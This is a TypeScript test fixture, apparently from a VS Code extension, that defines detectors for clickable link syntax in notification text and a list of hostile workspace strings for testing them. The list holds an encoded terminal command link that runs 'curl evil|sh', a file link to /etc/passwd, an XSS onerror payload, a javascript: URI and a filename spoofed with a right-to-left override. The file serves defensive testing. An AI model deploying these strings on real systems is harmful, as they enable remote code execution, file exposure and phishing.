/**
 * Hostile strings for notification text and the detectors of what would become a clickable link.
 * Shared by the unit tier (the helper) and the integration tier (what VS Code was really given).
 */

/** VS Code's own notification link syntax (vs/base/common/linkedText: `[label](https|command|file:...)`). */
export const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/** Link syntax of full Markdown renderers: inline, reference and definition links, autolinks, tags, bare URIs (a scheme, a colon and no space). */
const MARKDOWN_LINK_FORMS: ReadonlyArray<[string, RegExp]> = [
  ['inline link', /\]\s*\(/],
  ['reference link', /\]\s*\[/],
  ['link definition', /\]:/],
  ['autolink or tag', /<[a-z!/?]/i],
  ['bare URI', /\b(?:command|https?|file|vscode|vscode-insiders|javascript|data|mailto|ftp):(?=\S)/i],
];

/** The first link form `text` contains, or undefined. */
export function linkFormIn(text: string): string | undefined {
  VSCODE_NOTIFICATION_LINK.lastIndex = 0;
  if (VSCODE_NOTIFICATION_LINK.test(text)) return 'VS Code notification link';
  return MARKDOWN_LINK_FORMS.find(([, re]) => re.test(text))?.[0];
}

/** Run names, alert messages and paths a cloned workspace can hold. */
export const HOSTILE_TEXTS: readonly string[] = [
  '[x](command:labbook.runQuickstart)',
  '[Open run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'see [the docs](https://example.invalid/phish "Labbook docs") for details',
  '[a](file:///etc/passwd)',
  '[[nested]](command:x)',
  '[x] (command:labbook.runQuickstart)',
  '[x]\n(command:labbook.runQuickstart)',
  '[x][ref]\n[ref]: command:labbook.runQuickstart',
  '<https://example.invalid/a>',
  '<command:labbook.copyPythonSdk>',
  '<img src=x onerror=alert(1)>',
  'plain command:labbook.runQuickstart and https://example.invalid and HTTPS://EXAMPLE.INVALID',
  'javascript:alert(1)',
  'vscode://labbook.labbook/run?x=1',
  '\u202eexe.png',
  'tab\there\rcr\u0000nul\u001bescape',
  `${'['.repeat(500)}x${']'.repeat(500)}(command:x)`,
  `${'a'.repeat(990)}[x](command:labbook.runQuickstart)`,
  'images/[x](command:labbook.runQuickstart)/step_1.png',
  'C:\\runs\\model.png',
];
